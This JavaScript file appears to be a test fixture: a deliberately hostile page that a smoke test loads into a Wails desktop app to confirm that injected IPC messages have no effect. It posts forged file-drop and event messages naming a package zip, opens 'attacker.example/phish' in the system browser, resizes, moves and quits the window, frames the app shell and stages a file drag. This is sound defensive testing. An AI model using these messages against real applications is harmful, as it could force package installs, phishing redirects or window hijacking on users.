// A hostile package page, for smoke.sh: it attacks the window the way any
// hosted page could, and reports what it did through http://pmapi/log.
//
// WebKitGTK hands Wails' message channel (window.webkit.messageHandlers.
// external) to every frame, this one included, and Wails acts on what it
// carries: Q quits, W... resizes, moves or fullscreens the window, BO:
// opens the system browser, DD: is a file drop (the shell used to install
// the zip it names), EE an event to Go. The page posts each of them blind,
// then frames the chrome (wails://wails/) and reports whether the chrome
// rendered there (its document holds frames; a refused one holds none).
// Last, it offers a drag of its own that names the package as a file. The
// smoke test requires that none of it had any effect.
//
// window.dropPath, set by droppath.js (which smoke.sh writes beside this
// file), is the absolute path of a real package on disk: dropped.zip.
(function () {
  function report(text) {
    var xhr = new XMLHttpRequest();
    xhr.open("PUT", "http://pmapi/log", false);
    xhr.setRequestHeader("Content-type", "application/json");
    xhr.send(JSON.stringify({ level: "info", log: text }));
  }
  var ipc = window.webkit && window.webkit.messageHandlers && window.webkit.messageHandlers.external;
  if (!ipc) {
    report("hostile: no message channel in this frame");
    return;
  }
  var zip = window.dropPath || "/nonexistent/dropped.zip";
  function post(messages) {
    messages.forEach(function (m) {
      ipc.postMessage(m);
    });
  }
  post([
    "DD:10:10:" + zip, // a file drop: Wails emits wails:file-drop with the path
    "EE" + JSON.stringify({ name: "wails:file-drop", data: [10, 10, [zip]] }), // the same, as an event
    "BO:https://attacker.example/phish", // the system browser
    "WF", // fullscreen
    "WM", // maximise
  ]);
  // Wails runs each message on a goroutine of its own: the resize and the
  // move go a moment later, so a fullscreen obeyed after them cannot put
  // the window back to the screen's size and hide them.
  setTimeout(function () {
    post([
      "Ws:300:300", // resize
      "Wp:200:200", // move
      "Q", // quit
    ]);
    report("hostile: posted a drop of " + zip + ", an event, the browser, fullscreen, maximise, resize, move and quit");
  }, 200);

  // The chrome framed by this page: refused, the frame stays empty (no
  // load event either); shown, it would hold the chrome's own frames. A
  // cross-origin frame's frame count is readable from here.
  var frame = document.createElement("iframe");
  var loaded = false;
  frame.src = "wails://wails/";
  frame.title = "The shell, framed by a hosted page";
  frame.style.cssText = "position:fixed;top:10px;right:10px;width:360px;height:200px;border:2px solid #c00";
  frame.addEventListener("load", function () {
    loaded = true;
  });
  setTimeout(function () {
    var n;
    try {
      n = frame.contentWindow.length;
    } catch (e) {
      n = e.name;
    }
    report("framing: wails://wails/ in a page's frame (" + (loaded ? "loaded" : "never loaded") + ") holds frames=" + n);
  }, 2000);
  document.body.appendChild(frame);

  // A drag of the page's own, naming the package as a file manager's drag
  // would (text/uri-list): the shell must not take the files a page's drag
  // names (WebKitGTK hands the drop to GTK, where the shell takes drops).
  var handle = document.createElement("div");
  handle.draggable = true;
  handle.textContent = "Drag me";
  handle.style.cssText = "position:fixed;left:20px;bottom:40px;width:200px;height:80px;background:#fdd";
  handle.addEventListener("dragstart", function (e) {
    e.dataTransfer.setData("text/uri-list", "file://" + zip);
    e.dataTransfer.setData("text/plain", zip);
    report("hostile: a drag of the page's own started, naming " + zip);
  });
  document.body.appendChild(handle);
  // The page takes drops, its own drag's too (so GTK sees that drag
  // dropped on the window).
  window.addEventListener("dragover", function (e) {
    e.preventDefault();
  });
  window.addEventListener("drop", function (e) {
    e.preventDefault();
    report("hostile: something was dropped on the page (" + e.dataTransfer.files.length + " files)");
  });
})();
